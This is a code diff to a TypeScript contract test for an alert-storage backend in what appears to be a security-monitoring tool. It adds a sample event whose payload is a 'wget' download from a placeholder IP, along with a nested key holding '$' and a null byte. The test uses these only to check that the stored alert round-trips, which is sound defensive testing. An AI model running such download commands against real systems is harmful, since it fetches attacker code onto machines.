@@ -140,10 +140,15 @@ export function alertsContract(backend: Backend): void {
         scored_by: 'rules',
         model: '2',
       };
+      const step = {
+        activity: 'command',
+        payload: 'wget http://198.51.100.7/x',
+        extra: { a: { 'b.$c': '\u0000' } },
+      };
       await write(open.store, mine, {
-        alertFolds: [{ ...fold, events: 3, last_seen: time(9), worse: judgement }],
+        alertFolds: [{ ...fold, events: 3, last_seen: time(9), worse: { ...judgement, ...step } }],
       });
-      const worse = { ...rest, ...judgement, event_count: 4, last_seen: time(9) };
+      const worse = { ...rest, ...judgement, ...step, event_count: 4, last_seen: time(9) };
       assert.deepEqual(await open.store.of(mine).alert(alert.alert_id), worse);
       const milder = { ...judgement, risk_score: 2, attack_type: 'Normal' };
       await write(open.store, mine, {
